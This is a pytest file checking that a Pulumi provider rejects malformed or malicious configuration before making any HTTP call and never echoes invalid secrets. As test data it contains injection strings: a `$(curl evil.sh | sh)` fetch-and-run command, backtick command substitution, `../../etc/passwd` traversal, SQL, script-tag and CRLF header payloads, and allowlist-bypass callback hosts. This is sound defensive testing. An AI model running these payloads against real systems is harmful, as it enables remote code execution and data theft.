"""Bad inputs are refused before any HTTP call: through the provider's `check` against a
running emulator (whose request log must stay empty), and through `pulumi preview`.
Both on each front-end: the plugin's `check` names a property in the schema's words
(`oauth.realmId`), which its seam turns back into the declaration's for `check` and
the preview's output shows as they are."""

from __future__ import annotations

import pytest
import yaml

from harness.accounts import EVENTS_URL, new_app, provider_config
from harness.leaks import SECRETS, scan
from harness.pulumi_stack import PulumiStack
from provider.plugin.names import camel

from .front_ends import FRONT_ENDS, configured
from .ledger import LEDGER

REALM = "9130350000000001"
BAD_SIGNATURE = "my signature key with spaces 0123"  # a secret, even when invalid
BAD_CODE = "AB11 leaked-if-echoed-0123456789"
SECRETS.add("bad signature key", BAD_SIGNATURE)
SECRETS.add("bad grant code", BAD_CODE)
MASK = "********"

# (case, changes to a valid input, property the failure must name)
CASES = [
    # wrong types
    ("name is a number", {"name": 42}, "name"),
    ("name is a list", {"name": ["Books"]}, "name"),
    ("tags is a string", {"tags": "env:dev"}, "tags"),
    ("tag is a number", {"tags": [1]}, "tags[0]"),
    ("events_enabled is a string", {"events_enabled": "true"}, "events_enabled"),
    ("interval is a string", {"poll_interval_minutes": "5"}, "poll_interval_minutes"),
    ("interval is fractional", {"poll_interval_minutes": 2.5}, "poll_interval_minutes"),
    ("poller_resources is a string", {"poller_resources": "invoices"}, "poller_resources"),
    ("extra_configuration is a list", {"extra_configuration": ["x"]}, "extra_configuration"),
    (
        "extra value is a bool",
        {"extra_configuration": {"filter.response.nulls": True}},
        "extra_configuration",
    ),
    ("oauth is a string", {"oauth": "AB11code"}, "oauth"),
    ("grant code is a number", {"oauth": {"code": 123456, "realm_id": REALM}}, "oauth.code"),
    ("callback_url is a number", {"callback_url": 443}, "callback_url"),
    ("adopt_id is not numeric", {"adopt_id": "abc"}, "adopt_id"),
    # empty and oversized
    ("empty name", {"name": ""}, "name"),
    ("name of 121 characters", {"name": "x" * 121}, "name"),
    ("empty tag", {"tags": [""]}, "tags[0]"),
    ("tag of 101 characters", {"tags": ["t" * 101]}, "tags[0]"),
    ("21 tags", {"tags": [f"t{i}" for i in range(21)]}, "tags"),
    ("empty callback_url", {"callback_url": ""}, "callback_url"),
    ("callback_url over 2048", {"callback_url": EVENTS_URL + "/" + "a" * 2100}, "callback_url"),
    ("empty signature key", {"signature_key": ""}, "signature_key"),
    ("signature key of 257", {"signature_key": "k" * 257}, "signature_key"),
    (
        "extra value over 1024",
        {"extra_configuration": {"filter.response.nulls": "x" * 1025}},
        "extra_configuration",
    ),
    ("empty grant code", {"oauth": {"code": "", "realm_id": REALM}}, "oauth.code"),
    ("grant code over 2048", {"oauth": {"code": "c" * 2049, "realm_id": REALM}}, "oauth.code"),
    # unicode
    ("umlaut in name", {"name": "Bücher"}, "name"),
    ("emoji in name", {"name": "Books 📚"}, "name"),
    ("right-to-left override in name", {"name": "Books\u202egnp.exe"}, "name"),
    ("zero-width space in name", {"name": "Bo\u200bks"}, "name"),
    ("accent in tag", {"tags": ["naïve"]}, "tags[0]"),
    ("unicode callback host", {"callback_url": "https://hööks.example.com/e"}, "callback_url"),
    # unknown poller resources, duplicates
    ("unknown poller resource", {"poller_resources": ["invoices", "widgets"]}, "poller_resources"),
    ("poller resource in the wrong case", {"poller_resources": ["Invoices"]}, "poller_resources"),
    ("duplicate poller resource", {"poller_resources": ["bills", "bills"]}, "poller_resources"),
    ("duplicate tag", {"tags": ["a", "a"]}, "tags"),
    ("no poller resource with events on", {"poller_resources": []}, "poller_resources"),
    # http:// callbacks and the allowlist
    ("http:// callback", {"callback_url": "http://hooks.example.com/events"}, "callback_url"),
    (
        "http:// to a look-alike of localhost",
        {"callback_url": "http://localhost.evil.net/e"},
        "callback_url",
    ),
    ("host outside the allowlist", {"callback_url": "https://evil.example.net/e"}, "callback_url"),
    (
        "allowed host as a prefix",
        {"callback_url": "https://hooks.example.com.evil.net/e"},
        "callback_url",
    ),
    (
        "allowed host as a suffix",
        {"callback_url": "https://evilhooks.example.com/e"},
        "callback_url",
    ),
    (
        "allowed host as userinfo",
        {"callback_url": "https://hooks.example.com@evil.net/e"},
        "callback_url",
    ),
    ("javascript: callback", {"callback_url": "javascript:alert(1)"}, "callback_url"),
    ("events on without a callback", {"callback_url": None}, "callback_url"),
    # missing grant fields
    ("grant without realm_id", {"oauth": {"code": "AB11code0123"}}, "oauth.realm_id"),
    ("grant without code", {"oauth": {"realm_id": REALM}}, "oauth.code"),
    (
        "OAuth 1.0a grant without verifier",
        {"oauth": {"oauth_token": "tok01234", "secret": "sec01234", "realm_id": REALM}},
        "oauth.oauth_verifier",
    ),
    ("no grant and no adopt_id", {"oauth": None}, "oauth"),
    (
        "realm_id not numeric",
        {"oauth": {"code": "AB11code0123", "realm_id": "abc"}},
        "oauth.realm_id",
    ),
    # unknown keys
    ("unknown property", {"colour": "blue"}, "colour"),
    (
        "unknown grant field",
        {"oauth": {"code": "AB11code0123", "realm_id": REALM, "scope": "x"}},
        "oauth.scope",
    ),
    (
        "managed key in extra_configuration",
        {"extra_configuration": {"event.poller.urls": "bills"}},
        "extra_configuration",
    ),
    (
        "unknown key in extra_configuration",
        {"extra_configuration": {"made.up": "1"}},
        "extra_configuration",
    ),
    # the mask as a value
    ("mask as signature key", {"signature_key": MASK}, "signature_key"),
    ("mask as grant code", {"oauth": {"code": MASK, "realm_id": REALM}}, "oauth.code"),
    (
        "mask as extra value",
        {"extra_configuration": {"filter.response.nulls": MASK}},
        "extra_configuration",
    ),
    ("mask as name", {"name": MASK}, "name"),
    ("mask as callback_url", {"callback_url": MASK}, "callback_url"),
    # injection-like names and tags
    ("SQL in name", {"name": "x'; DROP TABLE instances; --"}, "name"),
    ("markup in name", {"name": "<script>alert(1)</script>"}, "name"),
    ("shell in name", {"name": "$(curl evil.sh | sh)"}, "name"),
    ("header injection in name", {"name": "Books\r\nX-Injected: 1"}, "name"),
    ("template in name", {"name": "{{7*7}}"}, "name"),
    ("query injection in tag", {"tags": ["env:x&tags[]=pulumi:other"]}, "tags[0]"),
    ("backticks in tag", {"tags": ["`id`"]}, "tags[0]"),
    ("path traversal in tag", {"tags": ["../../etc/passwd"]}, "tags[0]"),
    ("NUL in tag", {"tags": ["env\x00x"]}, "tags[0]"),
    ("claiming another ownership tag", {"tags": ["pulumi:reliability:test:someone-else"]}, "tags"),
    ("CRLF in callback_url", {"callback_url": EVENTS_URL + "\r\nX: 1"}, "callback_url"),
    # negative and out-of-range numbers, bad choices
    ("negative interval", {"poll_interval_minutes": -5}, "poll_interval_minutes"),
    ("zero interval", {"poll_interval_minutes": 0}, "poll_interval_minutes"),
    ("interval over a day", {"poll_interval_minutes": 1441}, "poll_interval_minutes"),
    ("negative adopt_id", {"adopt_id": -1}, "adopt_id"),
    ("unknown event_vendor_type", {"event_vendor_type": "push"}, "event_vendor_type"),
    (
        "unknown OAuth 1.0a dataSource",
        {
            "oauth": {
                "oauth_token": "tok01234",
                "oauth_verifier": "ver01234",
                "secret": "sec01234",
                "realm_id": REALM,
                "data_source": "XYZ",
            }
        },
        "oauth.data_source",
    ),
    # secrets that are invalid are still never echoed
    ("signature key with spaces", {"signature_key": BAD_SIGNATURE}, "signature_key"),
    ("grant code with a space", {"oauth": {"code": BAD_CODE, "realm_id": REALM}}, "oauth.code"),
]


def _valid() -> dict:
    return {
        "name": "Books",
        "ownership_tag": "pulumi:reliability:test:books",
        "callback_url": EVENTS_URL,
        "tags": ["env:test"],
        "oauth": {"code": "AB11code0123", "realm_id": REALM},
    }


def _names(failure_property: str, expected: str) -> bool:
    return failure_property == expected or failure_property.startswith(
        (expected + ".", expected + "[")
    )


@pytest.fixture(scope="module")
def checkers(emu):
    """A provider of each front-end configured against the emulator, and its request
    log emptied."""
    config = provider_config(emu, new_app())
    providers = {front_end: configured(config, front_end) for front_end in FRONT_ENDS}
    for provider in providers.values():
        assert provider.check({}, _valid()).failures == []  # the base input is valid
    emu.clear_requests()
    return providers


@pytest.fixture
def checked(checkers, front_end):
    return checkers[front_end]


both_front_ends = pytest.mark.parametrize("front_end", FRONT_ENDS)


@both_front_ends
@pytest.mark.parametrize(
    "case, changes, prop", [pytest.param(name, c, p, id=name) for name, c, p in CASES]
)
def test_check_refuses_before_any_http_call(emu, checked, case, changes, prop):
    raw = {k: v for k, v in {**_valid(), **changes}.items() if v is not None}
    failures = checked.check({}, raw).failures
    named = [f for f in failures if _names(f.property, prop)]
    LEDGER.bad_input("check", case, bool(named))
    assert named, f"no failure names {prop!r}: {failures}"
    assert emu.requests() == [], "check made an HTTP call"
    assert not scan("check failure text", " ".join(f"{f.property}: {f.reason}" for f in failures))


def test_enough_cases():
    assert len(CASES) >= 30


@both_front_ends
@pytest.mark.parametrize(
    "changes",
    [
        {"callback_url": "http://localhost:8400/events"},
        {"callback_url": "http://127.0.0.1:8400/events"},
        {"callback_url": "https://HOOKS.example.com/events"},
        {"poll_interval_minutes": 5.0},  # how 5 arrives over gRPC
        {"tags": ["b", "a"], "poller_resources": ["vendors", "bills"]},
        {"oauth": None, "adopt_id": 42},
    ],
)
def test_the_validator_still_accepts_good_input(checked, changes):
    raw = {k: v for k, v in {**_valid(), **changes}.items() if v is not None}
    assert checked.check({}, raw).failures == []


# --- through `pulumi preview` ------------------------------------------------------

# (case, plain settings, secret settings, text the output must name); one stack, one
# preview each. The grant without realm_id runs last: it removes the stored realm_id.
PREVIEW_CASES = [
    ("http:// callback", {"callback_url": "http://hooks.example.com/events"}, {}, "callback_url"),
    (
        "host outside the allowlist",
        {"callback_url": "https://evil.example.net/e"},
        {},
        "not allowed",
    ),
    (
        "unknown poller resource",
        {"poller_resources": ["invoices", "widgets"]},
        {},
        "poller_resources",
    ),
    ("negative interval", {"poll_interval_minutes": -5}, {}, "poll_interval_minutes"),
    ("invalid secret, never echoed", {}, {"signature_key": BAD_SIGNATURE}, "signature_key"),
    ("unknown property", {"colour": "blue"}, {}, "colour"),
    ("grant without realm_id", {}, {"oauth.realm_id": None}, "realm_id"),
]


@both_front_ends
def test_preview_refuses_bad_input_before_any_http_call(tmp_path, emu, app, program, front_end):
    stack = PulumiStack(tmp_path / "project", emu, app, stack="badinput", files=program)
    stack.set_instance("books", name="Books", callback_url=EVENTS_URL)
    stack.set_secret("quickbooks:instances.books.oauth.code", "AB11placeholder0123")
    stack.set_secret("quickbooks:instances.books.oauth.realm_id", REALM)
    failed = []
    for case, plain, secret, named in PREVIEW_CASES:
        stack.set_instance("books", **{"name": "Books", "callback_url": EVENTS_URL, **plain})
        for path, value in secret.items():
            if value is None:
                _drop_config(stack, path)
            else:
                stack.set_secret(f"quickbooks:instances.books.{path}", value)
        emu.clear_requests()
        done = stack.preview("--diff", check=False)
        output = done.stdout + done.stderr
        # The plugin names a property as its schema does (`callbackUrl`).
        named = named if front_end == "dynamic" else camel(named)
        rejected = done.returncode != 0 and named in output and emu.requests() == []
        LEDGER.bad_input("pulumi preview", case, rejected)
        if not rejected:
            failed.append((case, done.returncode, output[-1500:]))
        for path, value in secret.items():
            if value is not None:
                _drop_config(stack, path)
    assert not failed, failed
    found = scan("pulumi preview output", "\n".join(stack.transcript))
    assert not found, found


def _drop_config(stack: PulumiStack, path: str) -> None:
    """Removes quickbooks:instances.books.<path> from the stack file."""
    doc = stack.read_config()
    node = doc["config"]["quickbooks:instances"]["books"]
    *parents, last = path.split(".")
    for part in parents:
        node = node[part]
    node.pop(last)
    stack.config_path.write_text(yaml.safe_dump(doc, sort_keys=False))
